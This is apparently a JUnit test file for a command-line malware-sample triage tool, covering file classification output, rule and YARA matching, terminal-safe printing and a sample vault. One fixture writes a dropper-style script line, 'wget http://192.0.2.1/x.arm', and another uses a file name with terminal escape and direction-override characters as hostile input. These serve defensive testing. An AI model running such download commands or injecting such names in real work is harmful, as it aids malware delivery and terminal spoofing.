package teiten.cli;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import picocli.CommandLine;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

final class SampleCommandTest {
    private static final List<String> CONTRACT =
            List.of(
                    "file",
                    "sha256",
                    "kind",
                    "cpu",
                    "class",
                    "endianness",
                    "type",
                    "machine",
                    "flags",
                    "isa",
                    "float",
                    "static",
                    "stripped",
                    "packed",
                    "header_lies",
                    "anomalies",
                    "strings",
                    "tlsh");

    @TempDir
    @SuppressWarnings("NullAway.Init")
    private Path folder;

    private final StringWriter out = new StringWriter();
    private final StringWriter err = new StringWriter();

    private int run(Object command, String... args) {
        out.getBuffer().setLength(0);
        err.getBuffer().setLength(0);
        return new CommandLine(command)
                .setOut(new PrintWriter(out, true))
                .setErr(new PrintWriter(err, true))
                .execute(args);
    }

    /// The smallest ARM program header a loader would look at.
    private static byte[] elf(int n) {
        byte[] bytes = new byte[200 + n % 50];
        byte[] head = {0x7f, 'E', 'L', 'F', 1, 1, 1};
        System.arraycopy(head, 0, bytes, 0, head.length);
        bytes[16] = 2;
        bytes[18] = 40;
        bytes[20] = 1;
        bytes[39] = 5;
        bytes[40] = 52;
        bytes[100] = (byte) n;
        bytes[101] = (byte) (n >> 8);
        return bytes;
    }

    private String write(String name, byte[] bytes) throws IOException {
        return Files.write(folder.resolve(name), bytes).toString();
    }

    @Test
    void json_is_one_object_a_line_with_the_promised_keys_first_for_every_kind_of_file()
            throws IOException {
        // given one file of each kind
        List<String> args = new ArrayList<>(List.of("--json"));
        args.add(write("a.elf", elf(1)));
        args.add(
                write(
                        "b.sh",
                        "#!/bin/sh\nwget http://192.0.2.1/x.arm\n"
                                .getBytes(StandardCharsets.UTF_8)));
        args.add(
                write(
                        "c.zip",
                        new byte[] {
                            'P', 'K', 5, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0
                        }));
        args.add(write("d", new byte[] {1, 2, 3}));
        args.add(write("e", new byte[0]));
        // when
        int status = run(new SampleCommand(), args.toArray(String[]::new));
        // then
        assertThat(status).as(err.toString()).isZero();
        List<String> lines = out.toString().lines().toList();
        assertThat(lines).hasSize(5);
        List<String> kinds = new ArrayList<>();
        for (String line : lines) {
            JsonNode json = JsonMapper.builder().build().readTree(line);
            assertThat(new ArrayList<>(json.propertyNames()).subList(0, CONTRACT.size()))
                    .isEqualTo(CONTRACT);
            kinds.add(json.path("kind").asString());
        }
        assertThat(kinds).containsExactly("elf", "script", "archive", "other", "other");
        JsonNode elf = JsonMapper.builder().build().readTree(lines.get(0));
        assertThat(elf.path("cpu").asString()).isEqualTo("ARM");
        assertThat(elf.path("isa").asString()).isEqualTo("unknown");
        assertThat(elf.path("stripped").asString()).isEqualTo("unknown");
        assertThat(elf.path("header_lies").isBoolean()).isTrue();
    }

    @Test
    void a_thousand_files_of_a_directory_come_in_order_with_the_throughput_on_standard_error()
            throws IOException {
        Path many = Files.createDirectory(folder.resolve("many"));
        for (int i = 0; i < 1000; i++) {
            Files.write(many.resolve("%04d".formatted(i)), elf(i));
        }
        assertThat(run(new SampleCommand(), "--json", many.toString())).isZero();
        List<String> names =
                out.toString()
                        .lines()
                        .map(line ->
                                JsonMapper.builder().build().readTree(line).path("file").asString())
                        .toList();
        assertThat(names).hasSize(1000).isSorted();
        assertThat(err.toString())
                .startsWith("1,000 files, ")
                .contains(" files/s on ")
                .contains("ARM 1000");
    }

    @Test
    void a_sheet_keeps_to_80_columns_and_a_hostile_name_or_text_steers_no_terminal()
            throws IOException {
        byte[] bytes = elf(1);
        String name = write("x\u001b[31m\u202e.bin", bytes);
        assertThat(run(new SampleCommand(), name)).isZero();
        assertThat(out.toString()).doesNotContain("\u001b").doesNotContain("\u202e");
        assertThat(out.toString().lines().skip(1).mapToInt(String::length).max().orElse(0))
                .isLessThanOrEqualTo(80);
    }

    @Test
    void a_mistake_is_one_sentence_and_an_unreadable_file_does_not_stop_the_others()
            throws IOException {
        assertThat(Main.run("sample", folder.resolve("absent").toString())).isEqualTo(Main.MISTAKE);
        String rules =
                write(
                        "r.toml",
                        "[[rule]]\nid = \"x\"\nfamily = \"X\"\nat_least = 2\nstrings = [\"only one\"]\n"
                                .getBytes(StandardCharsets.UTF_8));
        assertThat(Main.run("sample", "--rules", rules, write("f", elf(1))))
                .isEqualTo(Main.MISTAKE);
        String good = write("g", elf(2));
        Path link = Files.createSymbolicLink(folder.resolve("dangling"), folder.resolve("g"));
        Files.delete(folder.resolve("g"));
        Files.write(Path.of(good), elf(2));
        assertThat(run(new SampleCommand(), "--json", good, link.toString())).isZero();
    }

    @Test
    void own_rules_name_a_family_and_yara_is_skipped_in_words_where_it_is_missing()
            throws IOException {
        String rules =
                write(
                        "own.toml",
                        "[[rule]]\nid = \"mine\"\nfamily = \"Mine\"\nat_least = 1\nstrings = [\"teiten-test-mark\"]\n"
                                .getBytes(StandardCharsets.UTF_8));
        String file = write("f", "teiten-test-mark\u0001".getBytes(StandardCharsets.UTF_8));
        String yara =
                write("y.yar", "rule any { condition: true }".getBytes(StandardCharsets.UTF_8));
        assertThat(run(new SampleCommand(), "--json", "--rules", rules, "--yara", yara, file))
                .isZero();
        JsonNode json = JsonMapper.builder().build().readTree(out.toString());
        assertThat(json.path("families").get(0).path("place").asString()).isEqualTo("own.toml:1");
        assertThat(json.path("yara").isObject() || err.toString().contains("skipped: needs yara"))
                .isTrue();
    }

    @Test
    void the_vault_takes_lists_shows_exports_and_removes() throws IOException {
        String vault = folder.resolve("vault").toString();
        String file = write("bot", elf(3));
        assertThat(
                        run(
                                new VaultCommand(),
                                "add",
                                "--vault",
                                vault,
                                "--url",
                                "http://192.0.2.1/x",
                                file))
                .isZero();
        String sha256 = out.toString().substring(0, 64);
        assertThat(run(new VaultCommand(), "list", "--vault", vault, "--json")).isZero();
        assertThat(out.toString()).contains(sha256).contains("\"sightings\":1");
        assertThat(run(new VaultCommand(), "show", "--vault", vault, sha256.substring(0, 10)))
                .isZero();
        assertThat(out.toString()).contains("ARM").contains("hxxp://192[.]0[.]2[.]1/x");
        String zip = folder.resolve("out.zip").toString();
        assertThat(run(new VaultCommand(), "export", "--vault", vault, "-o", zip, sha256)).isZero();
        assertThat(Path.of(zip)).isNotEmptyFile();
        assertThat(run(new VaultCommand(), "verify", "--vault", vault)).isZero();
        assertThat(run(new VaultCommand(), "remove", "--vault", vault, sha256)).isZero();
        assertThat(run(new VaultCommand(), "list", "--vault", vault)).isZero();
        assertThat(out.toString()).isEmpty();
    }
}
